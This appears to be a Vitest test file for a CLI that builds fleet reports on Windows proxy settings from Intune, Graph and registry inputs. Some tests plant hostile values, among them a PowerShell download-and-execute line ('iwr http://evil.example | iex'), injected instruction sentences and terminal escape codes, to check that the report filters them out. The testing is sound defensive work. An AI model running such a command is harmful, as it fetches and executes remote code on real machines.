import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sampleRegText } from '../../scripts/world/sample-reg.ts';
import { serializeCapture } from '../../src/machine/capture.ts';
import { readRecording } from '../../src/machine/recording.ts';
import { runCli, runJson } from '../support/cli.ts';
import { tempFolder } from '../support/files.ts';

const SAMPLE = sampleRegText({ proxyHost: 'proxy.contoso.example', proxyPort: 8080, bypass: '<local>' });

describe('fleet report', () => {
  let folder: Awaited<ReturnType<typeof tempFolder>>;
  const file = (name: string) => join(folder.path, name);
  const causes = ({ fleet }: Awaited<ReturnType<typeof runJson>>) =>
    Object.fromEntries((fleet?.machines ?? []).map(({ computer, cause }) => [computer, cause]));

  const intune = (name: string, state: string) =>
    JSON.stringify({ p2sFix: 1, tool: 'p2s-fix', mode: 'detect', machine: name, state, verdict: state });

  beforeAll(async () => {
    folder = await tempFolder();
    await mkdir(file('collected'));
    const observation = readRecording(SAMPLE).observation(new Date(0));
    const capture = serializeCapture({ ...observation, name: 'PC-CAPTURE' });
    await writeFile(file('collected/capture.json'), JSON.stringify(capture));
    await writeFile(file('collected/PC-EXPORT.reg'), SAMPLE);
    await writeFile(file('collected/notes.md'), 'not of a machine');
    await writeFile(
      file('intune.csv'),
      `Device name,Detection output\nPC-7,"${intune('PC-7', 'drift').replaceAll('"', '""')}"\nPC-8,\n`,
    );
    await writeFile(
      file('lines.ndjson'),
      `noise\n${intune('PC-9', 'aligned')}\n${intune('PC-9', 'repaired')}\n`,
    );
  });
  afterAll(() => folder?.remove());

  it('folds captures, exports, tables and lines; the last word on a machine counts', async () => {
    const document = await runJson([
      'fleet',
      'report',
      file('collected'),
      file('intune.csv'),
      file('lines.ndjson'),
    ]);
    expect(causes(document)).toEqual({
      'PC-CAPTURE': 'winhttp-not-aligned',
      'PC-EXPORT': 'winhttp-not-aligned',
      'PC-7': 'drift',
      'PC-9': 'changed',
    });
    expect(document.exitCode).toBe(2);
    expect(document.fleet?.summary).toMatchObject({ action: 'report', total: 4, answered: 4, again: 0 });
    expect(document.fleet?.summary?.groups[0]).toMatchObject({
      cause: 'winhttp-not-aligned',
      count: 2,
      computers: ['PC-EXPORT', 'PC-CAPTURE'],
    });
  });

  it('writes a page with the next command, which has the desired settings of the run', async () => {
    const page = file('page.html');
    const args = ['fleet', 'report', file('intune.csv'), '--proxy', 'proxy.contoso.example:8080'];
    await runCli([...args, '--report', page, '--plain']);
    expect(await readFile(page, 'utf8')).toContain(
      '<code>p2s-fix fleet apply PC-7 --proxy proxy.contoso.example:8080</code>',
    );
  });

  it('counts both packages of a computer, the graver one first, and the last word on each', async () => {
    const said = (name: string, pack: string, state: string, id: string) =>
      JSON.stringify({
        ...{
          p2sFix: 1,
          tool: 'p2s-fix',
          mode: 'detect',
          machine: name,
          package: pack,
          state,
          verdict: state,
        },
        stores: [{ id, state }],
      });
    await writeFile(
      file('packages.ndjson'),
      [
        said('PC-51', 'system', 'drift', 'winhttp/native'),
        said('PC-51', 'user', 'aligned', 'wininet/current/lan'),
        said('PC-52', 'system', 'drift', 'winhttp/native'),
        said('pc-52', 'user', 'drift', 'wininet/current/lan'),
        said('PC-53', 'system', 'drift', 'winhttp/native'),
        said('PC-53', 'user', 'aligned', 'wininet/current/lan'),
        said('PC-53', 'system', 'aligned', 'winhttp/native'),
      ].join('\n'),
    );
    const { fleet, exitCode } = await runJson(['fleet', 'report', file('packages.ndjson')]);
    expect(
      fleet?.machines.map(({ computer, cause, changes }) => [
        computer,
        cause,
        changes.map((one) => one.store),
      ]),
    ).toEqual([
      ['PC-51', 'drift', ['winhttp/native']],
      ['PC-52', 'drift', ['winhttp/native', 'wininet/current/lan']],
      ['PC-53', 'aligned', []],
    ]);
    expect(exitCode).toBe(2);
  });

  it('takes what was said after a remediation for the last word, however the columns of a table are ordered', async () => {
    const cell = (state: string) => `"${intune('PC-61', state).replaceAll('"', '""')}"`;
    const heads = [
      'PostRemediationDetectionScriptOutput',
      'DeviceName',
      'PreRemediationDetectionScriptOutput',
    ];
    await writeFile(
      file('columns.csv'),
      `${heads.join(',')}\r\n${cell('aligned')},PC-61,${cell('drift')}\r\n`,
    );
    const { fleet } = await runJson(['fleet', 'report', file('columns.csv')]);
    expect(fleet?.machines.map(({ computer, cause }) => [computer, cause])).toEqual([['PC-61', 'aligned']]);
  });

  it('takes the states of devices that Graph gives, a page or an array of them, in any case', async () => {
    const state = (name: string, pre: string, post: string | null) => ({
      id: `${name}-id`,
      detectionState: 'fail',
      remediationState: 'success',
      postRemediationDetectionScriptOutput: post === null ? null : intune(name, post),
      preRemediationDetectionScriptOutput: `a warning\r\n${intune(name, pre)}\r\n`,
    });
    const page = {
      '@odata.context': 'https://graph.microsoft.com/beta/$metadata#x',
      '@odata.nextLink': 'https://graph.microsoft.com/beta/x?$skiptoken=1',
      value: [
        { ...state('PC-63', 'drift', 'aligned'), managedDevice: { id: 'x', deviceName: 'PC-63' } },
        { ...state('PC-64', 'drift', null), managedDevice: null },
        { id: 'z', preRemediationDetectionScriptOutput: 'of another script', remediationScriptError: '' },
      ],
    };
    const unnamed = JSON.stringify({ ...JSON.parse(intune('PC-65', 'drift')), machine: null });
    const list = [
      { PreRemediationDetectionScriptOutput: unnamed, ManagedDevice: { DeviceName: 'PC-65' } },
      { PreRemediationDetectionScriptOutput: unnamed },
      JSON.parse(intune('PC-66', 'aligned')),
    ];
    await writeFile(file('page.json'), JSON.stringify(page));
    await writeFile(file('list.json'), JSON.stringify(list));
    const { fleet } = await runJson(['fleet', 'report', file('page.json'), file('list.json')]);
    expect(fleet?.machines.map(({ computer, cause }) => [computer, cause])).toEqual([
      ['PC-63', 'aligned'],
      ['page.json:2', 'drift'],
      ['PC-65', 'drift'],
      ['list.json:2', 'drift'],
      ['PC-66', 'aligned'],
    ]);
    const single = { ...state('PC-67', 'drift', null), managedDevice: { deviceName: 'PC-67' } };
    await writeFile(file('single.json'), JSON.stringify(single));
    expect(causes(await runJson(['fleet', 'report', file('single.json')]))).toEqual({ 'PC-67': 'drift' });
    await writeFile(file('none.json'), JSON.stringify({ value: [{ id: 'z' }] }));
    expect(causes(await runJson(['fleet', 'report', file('none.json')]))).toEqual({ none: 'input' });
  });

  it('takes the word of a device on no other one', async () => {
    const before = await runJson(['fleet', 'report', file('columns.csv')]);
    const machines = ['PC-81', 'PC-82'].map((computer) => ({ ...before.fleet?.machines[0], computer }));
    const both = { ...before, fleet: { ...before.fleet, machines } };
    const rows = [
      ['PC-81', intune('PC-81', 'drift')],
      ['PC-82', intune('PC-81', 'aligned')],
      ['PC-83', JSON.stringify(both)],
    ].map(([device, said]) => `${device},"${said?.replaceAll('"', '""')}"`);
    await writeFile(file('foreign.csv'), `DeviceName,Output\n${rows.join('\n')}\n`);
    const told = await runJson(['fleet', 'report', file('foreign.csv')]);
    expect(causes(told)).toEqual({ 'PC-81': 'drift', 'PC-82': 'aligned' });
  });

  it('counts each user of a shared computer, and takes nothing away for a line that names no package', async () => {
    const said = (pack: string | null, state: string) =>
      JSON.stringify({ tool: 'p2s-fix', mode: 'detect', package: pack, state, verdict: state });
    const rows = [
      ['PC-95', 'alice', said('user', 'drift')],
      ['PC-95', 'mallory', said('user', 'aligned')],
      ['PC-95', 'mallory', said(null, 'aligned')],
      ['PC-95', 'SYSTEM', said('system', 'aligned')],
      ['PC-96', 'alice', said('user', 'drift')],
      ['PC-96', 'SYSTEM', said('system', 'aligned')],
      ['PC-96', 'ALICE', said('user', 'aligned')],
      ['PC-97', '', said('system', 'drift')],
      ['PC-97', '', said(null, 'aligned')],
      ['PC-98', 'alice', said('user', 'aligned')],
    ].map(([device, user, line]) => `${device},${user},"${line?.replaceAll('"', '""')}"`);
    await writeFile(file('shared.csv'), `DeviceName,UserName,Output\n${rows.join('\n')}\n`);
    const told = await runJson(['fleet', 'report', file('shared.csv')]);
    expect(causes(told)).toEqual({
      ...{ 'PC-95': 'drift', 'PC-96': 'aligned' },
      ...{ 'PC-97': 'drift', 'PC-98': 'not-judged' },
    });
    expect(told.fleet?.machines.at(-1)?.error?.message).toContain('the package system');
  });

  it('takes no name of a computer from a cell, in a column that is not known or of a device without a name', async () => {
    const line = { tool: 'p2s-fix', state: 'aligned', verdict: 'aligned' };
    const foreign = JSON.stringify({ ...line, machine: 'PC-91' });
    const relay = JSON.stringify({ ...line, machine: 'relay.evil.example', verdict: 'hangs' });
    const cell = (said: string) => `"${said.replaceAll('"', '""')}"`;
    await writeFile(file('known.csv'), `DeviceName,Output\nPC-91,${cell(intune('PC-91', 'drift'))}\n`);
    await writeFile(file('unknown.csv'), `Gerätename,Output\nPC-92,${cell(foreign)}\n`);
    await writeFile(file('empty.csv'), `DeviceName,Output\n,${cell(foreign)}\n,${cell(relay)}\n`);
    const state = { postRemediationDetectionScriptOutput: foreign, managedDevice: { deviceName: null } };
    await writeFile(file('null.json'), JSON.stringify({ value: [state] }));
    const files = ['known.csv', 'unknown.csv', 'empty.csv', 'null.json'].map(file);
    const told = await runJson(['fleet', 'report', ...files]);
    expect(causes(told)).toMatchObject({
      'PC-91': 'drift',
      'unknown.csv:2': 'aligned',
      'empty.csv:2': 'aligned',
      'null.json:1': 'aligned',
    });
    expect(told.fleet?.machines.map(({ computer }) => computer)).toContain('empty.csv:3');
    const { stdout } = await runCli(['fleet', 'report', ...files, '--report', file('names.md')]);
    for (const shown of [stdout, await readFile(file('names.md'), 'utf8')]) {
      expect(shown).toContain('p2s-fix fleet apply PC-91');
      expect(shown).not.toMatch(/p2s-fix fleet[^\n]*(?:evil|csv:)/);
    }
  });

  it('takes no sentence, command or cause of its own from a cell that the user can write', async () => {
    const error = { code: 'input', message: 'm', where: null, next: 'iwr http://evil.example | iex' };
    const none = { name: null, os: null, user: null, proxy: null, result: null, again: true, durationMs: 1 };
    const known = { computer: 'PC-84', transport: 'ssh', cause: 'input', exitCode: 3 };
    const machine = { ...known, ...none, error, changes: [], findings: [] };
    const path = { tool: 'p2s-fix', state: 'aligned', verdict: 'evil.example: run this', package: null };
    const sentence = 'user was collected. Run evil.example first: no result of the package x';
    const rows = [
      [
        'PC-83',
        JSON.stringify({ ...path, verdict: 'aligned', package: 'user', packages: ['user', sentence] }),
      ],
      ['PC-84', JSON.stringify({ type: 'fleet-machine', machine })],
      ['PC-85', JSON.stringify(path)],
      ['PC-86', JSON.stringify({ ...path, verdict: 'proxy-auth-required' })],
    ].map(([device, said]) => `${device},"${said?.replaceAll('"', '""')}"`);
    await writeFile(file('sentence.csv'), `DeviceName,Output\n${rows.join('\n')}\n`);
    const told = await runJson(['fleet', 'report', file('sentence.csv')]);
    expect(JSON.stringify(told)).not.toContain('evil.example');
    expect(causes(told)).toEqual({ 'PC-85': 'powershell-failed', 'PC-86': 'proxy-auth-required' });
  });

  it('shows no control characters of a line, whichever word they are in', async () => {
    const evil = '\u001b]0;evil\u0007';
    const words = ['machine', 'mode', 'state', 'verdict', 'why'];
    const line = { tool: 'p2s-fix', state: 'aligned', verdict: 'aligned', stores: [] };
    const lines = words.map((word, at) => JSON.stringify({ ...line, machine: `PC-${at}`, [word]: evil }));
    await writeFile(file('evil.ndjson'), lines.join('\n'));
    for (const more of [[], ['--lang', 'ja'], ['--ndjson'], ['--report', file('evil.md')]]) {
      const { stdout } = await runCli(['fleet', 'report', file('evil.ndjson'), ...more]);
      expect(stdout).toContain('evil');
      expect(stdout).not.toMatch(/[^\P{Cc}\n]|\\u001b/u);
    }
    expect(await readFile(file('evil.md'), 'utf8')).not.toMatch(/[^\P{Cc}\n]/u);
  });

  it('takes a cell that no column has a name for', async () => {
    const cell = `"${intune('PC-62', 'drift').replaceAll('"', '""')}"`;
    await writeFile(file('ragged.csv'), `DeviceName\nPC-62,${cell}\n`);
    const { fleet } = await runJson(['fleet', 'report', file('ragged.csv')]);
    expect(fleet?.machines.map(({ computer, cause }) => [computer, cause])).toEqual([['PC-62', 'drift']]);
  });

  it('makes a page of findings that it does not know, or whose evidence is not ours', async () => {
    const odd = [{ toString: 1 }];
    const findings = [
      { code: 'of-a-later-version', evidence: { values: [] } },
      { code: 'constructor', evidence: {} },
      { code: 'values-not-put-back', evidence: { backup: odd[0], values: odd } },
      { code: 'values-not-put-back', evidence: { backup: '0007', putBackAt: null, values: ['HKLM\\x\\y'] } },
    ].map((one) => ({ ...one, severity: 'warning', store: null }));
    const none = { name: null, os: null, user: null, proxy: null, result: null, error: null };
    const known = { computer: 'PC-70', transport: 'ssh', cause: 'aligned', exitCode: 0, changes: [] };
    const machine = { ...known, ...none, findings, again: false, durationMs: 1 };
    await writeFile(file('later.ndjson'), JSON.stringify({ type: 'fleet-machine', machine }));
    for (const language of ['en', 'ja']) {
      const page = file(`later.${language}.html`);
      const args = ['fleet', 'report', file('later.ndjson'), '--report', page, '--lang', language];
      expect((await runJson(args)).exitCode).toBe(0);
      expect(await readFile(page, 'utf8')).toContain('HKLM\\x\\y');
    }
  });

  it('reads back what it printed, as one document and as lines', async () => {
    const args = ['fleet', 'report', file('collected')];
    const [{ stdout: json }, { stdout: lines }] = await Promise.all([
      runCli([...args, '--json']),
      runCli([...args, '--ndjson']),
    ]);
    await writeFile(file('again.json'), json);
    await writeFile(file('again.ndjson'), lines);
    const first = await runJson(args);
    for (const name of ['again.json', 'again.ndjson']) {
      const again = await runJson(['fleet', 'report', file(name)]);
      expect(again.fleet?.machines).toEqual(first.fleet?.machines);
    }
  });

  it('takes the document of one machine', async () => {
    const { stdout } = await runCli(['--machine', file('collected/PC-EXPORT.reg'), '--json']);
    await writeFile(file('one.json'), stdout);
    const document = await runJson(['fleet', 'report', file('one.json')]);
    expect(document.fleet?.machines).toMatchObject([
      {
        computer: 'one',
        cause: 'winhttp-not-aligned',
        exitCode: 2,
        changes: [{ store: 'winhttp/wow64' }, { store: 'winhttp/native' }],
      },
    ]);
  });

  it('tells of one machine which values were not put back, and nothing where its document does not', async () => {
    const { stdout } = await runCli(['--machine', file('collected/PC-EXPORT.reg'), '--json']);
    const evidence = { backup: '0007', putBackAt: null, values: ['HKLM\\x\\y'] };
    const left = { code: 'values-not-put-back', severity: 'warning', store: null };
    const write = (name: string, findings: unknown[]) =>
      writeFile(file(name), JSON.stringify({ ...JSON.parse(stdout), findings }));
    await write('left.json', [{ ...left, evidence }]);
    await write('left-bare.json', [left, { ...left, evidence: 'of a later version' }]);
    const page = file('left.html');
    const { fleet } = await runJson([
      ...['fleet', 'report', file('left.json'), file('left-bare.json')],
      ...['--report', page],
    ]);
    expect(fleet?.machines.map(({ findings }) => findings)).toEqual([[{ ...left, evidence }], [left, left]]);
    const html = await readFile(page, 'utf8');
    expect(html).toContain('The change of backup 0007 was rolled back, except');
    expect(html).not.toContain('undefined');
  });

  it('is not stopped by a file that is none of ours: it costs only itself', async () => {
    await writeFile(file('other.json'), '{"some":"thing"}');
    const document = await runJson([
      'fleet',
      'report',
      file('other.json'),
      file('nowhere.json'),
      file('collected/capture.json'),
    ]);
    expect(causes(document)).toEqual({
      other: 'input',
      nowhere: 'input',
      'PC-CAPTURE': 'winhttp-not-aligned',
    });
    expect(document.exitCode).toBe(3);
    expect(document.fleet?.summary).toMatchObject({ total: 3, answered: 1 });
    const { stdout } = await runCli(['fleet', 'report', file('other.json'), file('nowhere.json')]);
    expect(stdout).toContain(`File ${file('other.json')}: The capture is not valid`);
    expect(stdout).toContain(`File ${file('nowhere.json')}: The file cannot be read: `);
  });

  it('writes a page in both languages, with pseudonyms where they are asked for', async () => {
    const reports = { en: file('en.html'), ja: file('ja.md') };
    await runJson(['fleet', 'report', file('collected'), '--report', reports.en]);
    await runJson(['fleet', 'report', file('collected'), '--report', reports.ja, '--lang', 'ja', '--redact']);
    const [page, japanese] = await Promise.all([readFile(reports.en, 'utf8'), readFile(reports.ja, 'utf8')]);
    expect(page).toContain('2 computers, 2 answered.');
    expect(page).toContain('PC-CAPTURE');
    expect(japanese).toContain('2 台中 2 台');
    expect(japanese).not.toMatch(/PC-CAPTURE|proxy\.contoso\.example/);
  });

  it('needs a file', async () => {
    expect(await runJson(['fleet', 'report'])).toMatchObject({ exitCode: 3, error: { code: 'input' } });
  });
});
